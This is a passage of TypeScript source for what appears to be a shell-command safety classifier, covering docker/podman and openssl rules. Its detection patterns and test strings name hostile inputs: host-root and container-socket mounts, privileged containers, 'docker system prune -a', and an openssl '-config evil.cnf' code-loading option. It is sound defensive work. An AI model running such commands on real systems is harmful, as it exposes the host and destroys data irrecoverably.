      const src = m.startsWith('type=') ? /(?:source|src)=([^,]+)/.exec(m)?.[1] ?? '' : m.split(':')[0] ?? '';
      if (src === '/' || src === '~' || src === a.ctx.home || src === '$HOME' || /docker\.sock|podman\.sock|containerd\.sock/.test(src) || src.startsWith('/etc') || src.startsWith('/root')) {
        a.raise('destructive', `${inv.name} mounts ${src} into a container, which gives it the host`, SHELL_REACHABLE_EFFECTS);
      } else if (src) a.read(src, true, inv.cwd, true);
    }
    if (/^(rm|rmi|kill|stop|container rm|image rm|image prune|container prune|compose down|compose rm)$/.test(verb.trim())) {
      a.raise('write', `${inv.name} ${verb.trim()} removes or stops containers or images`, ['file_delete']);
      return;
    }
    if (/^(system prune|volume rm|volume prune|network prune|builder prune|buildx prune)$/.test(verb.trim())) {
      a.raise('destructive', `${inv.name} ${verb.trim()} deletes data that cannot be recovered`, ['destructive', 'file_delete']);
      return;
    }
    if (verb.trim() === 'push' || verb.trim() === 'image push') {
      a.network({ kind: 'upload', hosts: [{ host: null, why: `the registry is named by the image` }], reason: `${inv.name} push publishes an image to a registry, an upload` });
    } else a.network({ kind: 'connect', hosts: [{ host: null, why: `${inv.name} pulls from registries its daemon chooses` }], reason: `${inv.name} ${verb.trim()} runs containers or talks to registries` });
    if (/^(push|login|logout)$/.test(verb.trim())) {
      a.raise('network', `${inv.name} ${verb.trim()} talks to a registry`, ['network', 'secret_read']);
      return;
    }
    a.raise('network', `${inv.name} ${verb.trim() || ''} runs containers or builds images (pulls from registries; code inside can do anything)`.replace('  ', ' '), ['network']);
    a.addEffects(SHELL_REACHABLE_EFFECTS);
  },
  match: ['docker ps', 'docker images', 'podman inspect x', 'docker compose ps'],
  notMatch: ['docker -H ssh://host ps', 'docker --context remote ps', 'podman --remote ps', 'docker -c /tmp/cfg ps', 'docker ps --frob', 'docker run --rm alpine echo hi', 'docker run --privileged x', 'docker run -v /:/host x', 'docker system prune -a', 'docker build .'],
};

/** openssl: local cryptography, except the subcommands that open TLS connections. */
/** Digest and cipher names openssl takes as options (-sha256, -aes256). */
const OPENSSL_DIGESTS = '-md5 -sha1 -sha224 -sha256 -sha384 -sha512 -sha512-224 -sha512-256 -sha3-224 -sha3-256 -sha3-384 -sha3-512 -shake128 -shake256 -blake2b512 -blake2s256 -sm3 -ripemd160 -ripemd -rmd160';
const OPENSSL_CIPHERS = '-aes128 -aes192 -aes256 -aria128 -aria192 -aria256 -camellia128 -camellia192 -camellia256 -des -des3 -idea';
/**
 * The openssl commands that only print, with their options (openssl's manual pages, 3.x). Not listed
 * anywhere: -engine, -provider, -provider-path, -propquery and -config (they load code), -out, -keyout,
 * -writerand and -CAcreateserial (they write files; -out is judged), -rand (reads seed files).
 */
const OPENSSL_READ: Readonly<Record<string, string>> = {
  version: '@single-dash -help -a -v -b -o -f -p -d -e -m -r -c',
  help: '@single-dash -help',
  list: `@single-dash -help -1 -verbose -select: -commands -standard-commands -digest-commands -digest-algorithms -kdf-algorithms -random-instances
    -random-generators -mac-algorithms -cipher-commands -cipher-algorithms -encoder -decoder -key-managers -key-exchange-algorithms
    -kem-algorithms -signature-algorithms -asymcipher-algorithms -public-key-algorithms -public-key-methods -store-loaders -providers
    -engines -disabled -objects -options: -all-algorithms -tls-signature-algorithms -tls-groups`,
  speed: `@single-dash -help -elapsed -evp: -hmac: -cmac: -decrypt -aead -mb -mr -multi: -async_jobs: -misalign: -seconds: -bytes: -mlock -primes:
    -kem-algorithms -signature-algorithms -testmode`,
  rand: '@single-dash -help -hex -base64 !-out:',
  prime: '@single-dash -help -hex -generate -bits: -safe -checks:',
  passwd: '@single-dash -help -1 -5 -6 -apr1 -aixmd5 -crypt -salt: -in: -stdin -noverify -quiet -table -reverse',
  genrsa: `@single-dash -help -passout: -primes: -verbose -quiet -traditional -3 -F4 -f4 !-out: ${OPENSSL_CIPHERS}`,
  x509: `@single-dash -help -in: -inform: -outform: -noout -text -subject -issuer -dates -startdate -enddate -fingerprint -serial -hash -subject_hash
    -issuer_hash -subject_hash_old -issuer_hash_old -email -ocspid -ocsp_uri -pubkey -modulus -purpose -alias -nameopt: -certopt: -ext: -checkend:
    -checkhost: -checkemail: -checkip: -dateopt: -nocert -noout -passin: -ext: -nameopt: -trustout -clrtrust -clrreject -ocspid -x509toreq !-out: ${OPENSSL_DIGESTS}`,
  dgst: `@single-dash -help -list -c -d -debug -hex -binary -xoflen: -r -verify: -prverify: -signature: -sigopt: -keyform: -passin: -sign: -hmac: -mac: -macopt:
    -fips-fingerprint -digest: !-out: ${OPENSSL_DIGESTS}`,
  ts: `@single-dash -help -reply -verify -query -in: -text -token_in -token_out -queryfile: -data: -digest: -CAfile: -CApath: -CAstore: -untrusted: -partial_chain
    -no_check_time -cert -no_nonce -tspolicy: -policy: !-out: ${OPENSSL_DIGESTS}`,
  asn1parse: '@single-dash -help -inform: -in: -noout -offset: -length: -dump -dlimit: -i -strparse: -oid: -item: -strictpem -genstr: -genconf:',
  verify: '@single-dash -help -CAfile: -CApath: -CAstore: -no-CAfile -no-CApath -no-CAstore -untrusted: -trusted: -CRLfile: -crl_download -show_chain -verbose -purpose: -verify_hostname: -verify_email: -verify_ip: -partial_chain -x509_strict -attime: -policy: -crl_check -crl_check_all -issuer_checks',
  crl: `@single-dash -help -in: -inform: -outform: -text -noout -hash -hash_old -fingerprint -crlnumber -issuer -lastupdate -nextupdate -nameopt: -dateopt: -CAfile: -CApath: -verify !-out: ${OPENSSL_DIGESTS}`,
  errstr: '@single-dash -help',
  ciphers: '@single-dash -help -v -V -s -tls1 -tls1_1 -tls1_2 -tls1_3 -stdname -convert: -ciphersuites: -psk -srp',
  base64: '@single-dash -help -in: -d -A -a !-out:',
};

const openssl: Rule = {
  names: ['openssl'],
  base: 'read',
  effects: [],
  what: 'runs cryptographic operations',
  readsArgs: true,
  checksOwnOptions: true,
  analyze(inv, a) {
    const verb = inv.argv[0] ?? '';
    const table = Object.hasOwn(OPENSSL_READ, verb) ? OPENSSL_READ[verb]! : null;
    if (table) {
      const scan = a.options(inv, table, `openssl ${verb}`, 1);
      const outs = valuesOf(scan, '-out');
      a.raise('read', `openssl ${verb} ${outs.length ? 'computes' : 'prints its result'}`);
      for (const o of outs) {
        a.raise('write', `openssl ${verb} writes its result to a file`, ['file_write']);
        writeValue(inv, a, o);
      }
      // genrsa and rand print what they make; the rest read the files they are given (scanned as reads above).
      return;
    }
    a.raise('write', `openssl ${verb} reads and writes files and can load engines and providers, so it is not provably read-only`, SHELL_REACHABLE_EFFECTS);
    if (['s_client', 's_time', 'ocsp'].includes(verb)) {
      a.raise('network', `openssl ${verb} opens a TLS connection`, ['network']);
      // openssl's options are single-dash words: -connect host:port, -host, -url.
      const at = inv.argv.findIndex((x) => ['-connect', '-host', '-url'].includes(x));
      const target = at === -1 || !inv.args[at + 1]?.literal ? undefined : inv.argv[at + 1];
      const host: HostTarget = target ? (urlTarget(target) ?? bareHostTarget(target)) : { host: null, why: `openssl ${verb} connects to a host the classifier cannot read` };
      a.network({ kind: 'connect', hosts: [host], reason: `openssl ${verb} opens a raw TLS connection, which can carry anything` });
    }
  },
  match: ['openssl rand -hex 16', 'openssl x509 -in cert.crt -noout -text', 'openssl version', 'openssl speed -elapsed', 'openssl passwd -6 -salt s'],
  notMatch: ['openssl s_client -connect example.com:443', 'openssl rand -out r.bin 16', 'openssl genrsa -out k.pem 2048', 'openssl x509 -in c.crt -out c.pem',
    'openssl dgst -sha256 -out d.txt f', 'openssl ts -query -data f -out q.tsq', 'openssl base64 -in f -out g', 'openssl x509 -engine e -in c.crt -noout',
    'openssl version -config evil.cnf', 'openssl req -new -key k -out r.csr', 'openssl genrsa -rand seed 2048'],
};

export const networkRules: Rule[] = [openssl, fetchers, remoteShells, copyRemote, sockets, cloud, containers];

export type { Analysis, Invocation };
